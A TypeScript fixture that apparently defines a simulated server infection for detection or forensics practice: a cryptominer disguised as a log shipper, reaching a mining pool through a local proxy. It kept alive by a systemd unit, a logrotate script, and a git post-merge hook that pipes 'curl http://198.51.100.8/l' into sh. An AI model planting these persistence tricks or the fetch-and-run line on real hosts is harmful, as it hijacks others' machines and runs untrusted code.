import { type Infection, miner } from '../host-part.ts'
import { serviceText } from './parts.ts'

const program = '/usr/local/bin/log-shipper'

/** Talks to a proxy of the intruder's inside the network, so that no pool's address is seen. */
export const lanProxy: Infection = {
  family: 'lan-proxy',
  known: false,
  title: 'A miner behind a proxy on the local network',
  story: [
    'A program in /usr/local/bin is started with the address of a machine nearby.',
    'A hook of git and a script of logrotate bring it back.',
  ],
  items: [
    { kind: 'file', path: program, content: { lookalike: miner, words: 'ships logs' }, mode: 0o755 },
    {
      kind: 'file',
      path: '/etc/systemd/system/log-shipper.service',
      content: { text: serviceText('Log shipper', `${program} -o 10.3.4.5:8443 -u lamp -p x --nicehash -k`) },
    },
    { kind: 'unit', name: 'log-shipper.service', path: '/etc/systemd/system/log-shipper.service' },
    {
      kind: 'file',
      path: '/srv/app/.git/hooks/post-merge',
      content: { text: `#!/bin/sh\npgrep log-shipper || (curl -s http://198.51.100.8/l | sh) &\n` },
      mode: 0o755,
    },
    {
      kind: 'file',
      path: '/etc/logrotate.d/log-shipper',
      content: {
        text: `/var/log/log-shipper.log {\n  daily\n  missingok\n  postrotate\n    ${program} -o 10.3.4.5:8443 -u lamp -p x -B\n  endscript\n}\n`,
      },
    },
  ],
}
